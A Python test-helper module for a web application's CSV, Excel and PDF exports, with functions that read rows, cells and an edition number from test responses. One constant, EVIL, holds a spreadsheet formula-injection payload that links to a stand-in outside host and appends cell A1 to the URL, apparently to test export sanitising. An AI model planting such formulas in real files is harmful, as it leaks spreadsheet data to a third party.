"""What stands in a file that a page handed out: the lines of CSV, the sheets of a workbook."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import openpyxl
from openpyxl.workbook import Workbook
from werkzeug.test import TestResponse

from tests.reports.reading import words_of
from tests.web.office import text_of

EVIL = '=HYPERLINK("http://elsewhere.example/?"&A1,"Mill Lane")'


def rows_of(answer: TestResponse) -> list[list[str]]:
    """Every row of a CSV file, its headings first."""
    return list(csv.reader(_letters(answer)))


def lines_of(answer: TestResponse) -> list[dict[str, str]]:
    """The rows of a CSV file by their headings."""
    return list(csv.DictReader(_letters(answer)))


def book_of(answer: TestResponse) -> Workbook:
    assert answer.status_code == 200, text_of(answer)
    return openpyxl.load_workbook(io.BytesIO(answer.get_data()))


def cells_of(answer: TestResponse) -> Iterator[object]:
    """What stands in every cell of every sheet."""
    return (cell.value for sheet in book_of(answer) for row in sheet.iter_rows() for cell in row)


def _letters(answer: TestResponse) -> io.StringIO:
    assert answer.status_code == 200, text_of(answer)
    return io.StringIO(answer.get_data().decode("utf-8-sig"), newline="")


def number_on(pdf: bytes) -> str:
    """The number of the edition, as it is printed."""
    found = re.search(r"Edition ([0-9A-Z]{5}-[0-9A-Z]{5}-[0-9A-Z]{5})", words_of(pdf))
    assert found
    return found[1]
